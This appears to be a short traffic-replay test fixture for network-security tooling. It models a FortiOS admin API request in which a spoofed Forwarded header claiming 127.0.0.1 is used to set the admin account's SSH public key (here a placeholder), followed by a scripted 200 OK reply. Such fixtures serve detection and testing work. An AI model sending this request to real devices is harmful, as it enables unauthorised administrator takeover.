# FortiOS, admin interface as a local caller.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
PUT /api/v2/cmdb/system/admin/admin HTTP/1.1\r\n
Host: shop.example\r\n
Forwarded: for="[127.0.0.1]:8000";by="[127.0.0.1]:9000"\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 23\r\n
\r\n
{"ssh-public-key1":"x"}

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
